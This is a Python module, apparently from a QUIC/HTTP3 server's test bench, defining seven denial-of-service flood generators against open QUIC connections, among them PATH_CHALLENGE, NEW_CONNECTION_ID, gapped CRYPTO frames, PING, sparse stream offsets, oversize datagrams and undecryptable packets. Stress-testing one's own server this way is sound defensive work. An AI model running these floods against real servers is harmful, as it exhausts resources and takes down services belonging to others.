"""Attacks with QUIC's own frames and datagrams, on open connections."""

from __future__ import annotations

import os
from itertools import count
from typing import TYPE_CHECKING

from aioquic.buffer import encode_uint_var

from h3producer.quic.packets import VERSION_1, encode_long_header
from tests.bench.attacks.assailant import MAX_FRAMES, stream
from tests.bench.attacks.raid import Raid

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.bench.attacks.assailant import Assailant

__all__ = ["QUIC_FLOODS"]

OVERSIZE = 60_000
"""Bytes of a datagram that no path of the internet carries in one piece."""


def path_challenges(assailant: Assailant) -> Iterator[bool]:
    """Each of them asks for a PATH_RESPONSE."""
    while True:
        assailant.send(*(b"\x1a" + os.urandom(8) for _ in range(MAX_FRAMES // 9)))
        yield True


def new_connection_ids(assailant: Assailant) -> Iterator[bool]:
    """Each retires the one before it, and asks for a RETIRE_CONNECTION_ID."""
    for first in count(1, 30):
        numbers = map(encode_uint_var, range(first, first + 30))
        assailant.send(*(b"\x18" + each * 2 + b"\x08" + os.urandom(24) for each in numbers))
        yield True


def crypto_with_gaps(assailant: Assailant) -> Iterator[bool]:
    """Handshake bytes behind a gap, which have to be kept."""
    offset = 1
    while True:
        frames = []
        for _ in range(100):
            offset = 1 + (offset + 2) % 60_000
            frames.append(b"\x06" + encode_uint_var(offset) + b"\x01x")
        assailant.send(*frames)
        yield True


def pings(assailant: Assailant) -> Iterator[bool]:
    """The cheapest packet to make that must be acknowledged."""
    while True:
        assailant.send(b"\x01")
        yield True


def sparse_offsets(assailant: Assailant) -> Iterator[bool]:
    """A byte at the end of each window, then as many gaps as are let in, over and over."""
    streams = [assailant.open() for _ in range(4)]
    far = assailant.room(0, 0) - 1
    assailant.send(*(stream(each, b"x", far) for each in streams))
    while True:
        for start in range(2, 200 * 1000, 80_000):
            for each in streams:
                offsets = range(start, start + 80_000, 1000)
                assailant.send(*(stream(each, b"x", offset) for offset in offsets))
                yield True


def oversize_datagrams(assailant: Assailant) -> Iterator[bool]:
    """As many packets in a datagram as UDP lets through, none of which can be decrypted."""
    connection_id = assailant.quic._peer_cid.cid
    head = encode_long_header(0xE0, VERSION_1, connection_id, b"attacker")
    packet = head + b"\x40\x14" + bytes(20)
    octets = packet * (OVERSIZE // len(packet))
    while True:
        assailant.send_datagram(octets)
        yield True


def undecryptable(assailant: Assailant) -> Iterator[bool]:
    """Packets of an open connection that fail to decrypt, as fast as the kernel takes them."""
    octets = b"\x43" + assailant.quic._peer_cid.cid + bytes(1150)
    while True:
        for _ in range(8):
            assailant.send_datagram(octets)
        yield True


QUIC_FLOODS = {
    "path-challenge": Raid("PATH_CHALLENGE flood", path_challenges),
    "new-connection-id": Raid("NEW_CONNECTION_ID flood", new_connection_ids),
    "crypto": Raid("CRYPTO flood", crypto_with_gaps),
    "ping": Raid("PING flood", pings),
    "sparse-offsets": Raid("Sparse offsets in the receive buffer", sparse_offsets),
    "oversize": Raid("Oversize datagrams", oversize_datagrams),
    "undecryptable": Raid("Undecryptable packets", undecryptable),
}
